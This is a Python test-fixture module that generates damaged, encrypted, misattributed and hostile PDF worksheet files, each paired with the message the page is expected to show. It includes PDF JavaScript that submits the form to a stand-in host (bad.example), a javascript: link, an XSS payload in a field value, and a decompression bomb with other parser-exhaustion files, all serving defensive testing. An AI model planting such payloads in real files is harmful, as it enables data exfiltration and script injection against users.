"""PDFs that don't belong on a worksheet's page but that someone opens there, and what the page then says."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

Change = Callable[[Pdf], None]


def changed(form: bytes, change: Change, encryption: pikepdf.Encryption | None = None) -> bytes:
    """Return the PDF `form` after `change`."""
    with pikepdf.open(io.BytesIO(form)) as document:
        change(document)
        saved = io.BytesIO()
        document.save(saved, encryption=encryption)
        return saved.getvalue()


def nothing(document: Pdf) -> None:
    """Leave the document as it is."""


def flattened(document: Pdf) -> None:
    """Remove the form, as printing to a PDF does."""
    del document.Root.AcroForm


def unmarked(document: Pdf) -> None:
    """Remove the note of the page it belongs to, as some programs do and older forms never had one."""
    del document.docinfo["/Worksheet"]


def renamed(document: Pdf) -> None:
    """Name all fields as in a form of someone else's."""
    unmarked(document)
    for number, field in enumerate(document.Root.AcroForm.Fields):
        field.T = String(f"topmostSubform[0].Page1[0].f1_{number}[0]")


def elsewhere(document: Pdf) -> None:
    """Make it belong to another worksheet."""
    document.docinfo["/Worksheet"] = String("worksheets/another")
    document.docinfo["/Title"] = String("Another sheet")


def hostile(document: Pdf) -> None:
    """Run scripts, load pages and send the form, as far as a PDF can ask for it."""
    script = Dictionary(
        S=Name.JavaScript, JS=String("app.alert('bad'); this.submitForm('https://bad.example')")
    )
    link = Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))
    document.Root.OpenAction = script
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("bad"), script])))
    document.Root.AA = Dictionary(WC=script, DP=script)
    for field in document.Root.AcroForm.Fields:
        field.AA = Dictionary(K=script, F=script, V=script, C=script)
        field.A = link
    document.Root.AcroForm.Fields[0].V = String("<img src=x onerror=alert(1)><script>alert(2)</script>")


def in_circles(document: Pdf) -> None:
    """Make fields contain themselves and each other."""
    fields = document.Root.AcroForm.Fields
    first, second = fields[0], fields[1]
    group = document.make_indirect(Dictionary(T=String("a"), Kids=Array()))
    group.Kids.append(group)
    group.Kids.append(document.make_indirect(Dictionary(T=String("b"), Parent=group, Kids=Array([group]))))
    document.Root.AcroForm.Fields = Array([group, first, second, first, group])


LOCKED = pikepdf.Encryption(user="secret", owner="secret")
PROTECTED = pikepdf.Encryption(user="", owner="secret")
"""Everyone can read it, but not change it."""


def endless() -> bytes:
    """A file in which a comment begins at every place, and a reader looks for its end again and again."""
    return b"%PDF-1.7\n1 0 obj\n7\nendobj\nx" + b"%" * 2_000_000 + b"\n%%EOF\n"


def deep(form: bytes) -> bytes:
    """A form, and an object that contains itself a hundred thousand times."""
    return form + b"\n9999 0 obj\n" + b"[" * 100_000 + b"]" * 100_000 + b"\nendobj\n%%EOF\n"


def swelling() -> bytes:
    """A small file with an object that takes up a hundred times as much space once it's unpacked."""
    packed = zlib.compress(b"1 0 " + b" " * 100_000_000, 9)
    about = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(packed)
    return b"%PDF-1.7\n1 0 obj\n" + about + b"\nstream\n" + packed + b"\nendstream\nendobj\n%%EOF\n"


STRANGE: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "nothing but its first line": (lambda form: b"%PDF-1.7\n", "damaged or incomplete"),
    "nothing but its ends": (lambda form: b"%PDF-1.7\nstartxref\n0\n%%EOF\n", "damaged or incomplete"),
    "cut off": (lambda form: form[: len(form) // 3], "damaged or incomplete"),
    "something else with the first line of a PDF": (
        lambda form: b"%PDF-1.7\n" + bytes(range(256)) * 400,
        "damaged or incomplete",
    ),
    "with a password": (lambda form: changed(form, nothing, LOCKED), "locked with a password"),
    "made by printing": (lambda form: changed(form, flattened), "nothing to fill in"),
    "of someone else": (lambda form: changed(form, renamed), "isn’t a worksheet from this page"),
    "of another worksheet": (lambda form: changed(form, elsewhere), "belongs to the page “Another sheet”"),
    "without answers": (lambda form: form, "aren’t any answers"),
    "in circles": (lambda form: changed(form, in_circles), "aren’t any answers"),
    "nested deeply": (deep, "aren’t any answers"),
    "swelling": (lambda form: swelling(), "damaged or incomplete"),
    "huge": (lambda form: form + b" " * 9_000_000, "too large"),
}
"""How a file is made from a blank form, and what the page says about it. None of them changes an answer."""
